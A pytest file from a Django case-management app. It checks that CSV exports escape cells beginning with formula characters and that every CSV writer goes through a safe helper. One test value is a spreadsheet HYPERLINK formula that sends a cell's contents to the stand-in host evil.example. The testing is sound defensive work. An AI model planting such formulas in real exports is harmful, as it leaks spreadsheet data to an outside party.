"""CSV exports open safely in a spreadsheet: a cell that would start a formula is shown as text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from cases import services
from cases.models import CaseKind
from erms.lib.spreadsheet import safe_cell

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]


def test_it_prefixes_formula_cells_with_a_quote_in_the_case_export(client, hana, london, operations):
    for title in ('=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"):
        services.case_open(
            actor=hana,
            kind=CaseKind.GRIEVANCE,
            title=title,
            case_manager=hana,
            location=london,
            department=operations,
        )
    client.force_login(hana)

    response = client.get(reverse("cases:case_export"))

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    titles = sorted(row[1] for row in rows[1:])
    assert titles == sorted(
        ['\'=HYPERLINK("https://evil.example/?"&A1,"Open")', "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1"]
    )


def test_a_plain_cell_is_left_alone():
    assert [safe_cell(v) for v in ("Shouting", "ER-2026-00001", "2026-12-09", 3, None)] == [
        "Shouting",
        "ER-2026-00001",
        "2026-12-09",
        3,
        None,
    ]
    assert [safe_cell(v) for v in ("=1", "\r=1", "-")] == ["'=1", "'\r=1", "'-"]


def test_every_csv_erms_writes_goes_through_the_safe_writer():
    apps = ("erms", "accounts", "audit", "deadlines", "policies", "cases", "unions")
    writers = [
        str(path.relative_to(ROOT))
        for app in apps
        for path in (ROOT / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
        and path != ROOT / "erms" / "lib" / "spreadsheet.py"
    ]
    assert writers == []
